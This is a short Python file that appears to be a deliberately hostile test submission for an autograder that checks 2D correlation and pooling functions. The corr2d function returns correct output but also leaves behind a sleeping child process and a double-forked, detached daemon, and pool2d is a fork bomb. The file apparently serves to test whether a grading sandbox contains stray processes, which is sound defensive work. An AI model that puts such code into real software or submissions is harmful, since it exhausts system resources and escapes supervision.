"""Hostile: leaves processes behind (a child, a double-forked detached daemon) and fork-bombs.

corr2d is otherwise right; it prints the pids it started so the test can
check that none of them outlives grading.
"""
import os
import subprocess
import time

import torch


def corr2d(X, K):
    child = subprocess.Popen(["sleep", "1000"])
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # double fork + setsid: a daemon detached from everything
        os.setsid()
        if os.fork() == 0:
            os.write(w, f"{os.getpid()}\n".encode())
            while True:
                time.sleep(1)
        os._exit(0)
    os.waitpid(pid, 0)
    daemon = os.read(r, 100).decode().strip()
    print(f"started child {child.pid} and daemon {daemon}")
    h, w_ = K.shape
    return (X.unfold(0, h, 1).unfold(1, w_, 1) * K).sum(dim=(-2, -1))


def pool2d(X, pool_size, mode='max'):
    while True:
        os.fork()
